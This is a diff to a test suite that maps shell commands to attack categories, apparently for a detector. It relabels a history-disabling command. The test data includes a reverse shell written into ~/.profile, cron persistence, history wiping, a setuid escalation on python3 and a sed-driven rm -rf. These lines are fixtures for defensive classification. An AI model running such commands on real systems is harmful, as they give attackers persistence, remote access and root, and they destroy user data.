@@ -205,7 +205,7 @@ describe('attack families from the research notes', () => {
     ["echo '* * * * * /tmp/x' | crontab -", 'persistence.scheduler'],
     ["cat >> ~/.profile <<'EOF'\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\nEOF", 'persistence.payload_write'],
     ['history -c', 'antiforensics.history'],
-    ['export HISTFILE=/dev/null', 'env.tool_exec'],
+    ['export HISTFILE=/dev/null', 'antiforensics.history'], // history variables are judged by the env table as hiding activity
     ['chmod 4755 /usr/bin/python3', 'privesc.setuid'],
     ['sudo -i', 'privesc.root_shell'],
     ["echo '1e rm -rf ~' | sed -f /dev/stdin input", 'exec.sed_script'],
